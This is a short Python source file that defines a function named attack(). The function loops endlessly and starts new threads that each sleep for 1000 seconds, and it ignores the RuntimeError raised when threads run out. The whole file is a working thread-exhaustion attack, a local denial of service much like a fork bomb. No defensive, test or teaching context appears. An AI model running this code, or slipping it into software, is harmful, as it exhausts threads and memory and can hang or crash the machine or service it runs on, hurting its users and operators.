import threading
import time


def attack():
    while True:
        try:
            threading.Thread(target=time.sleep, args=(1000,)).start()
        except RuntimeError:
            pass
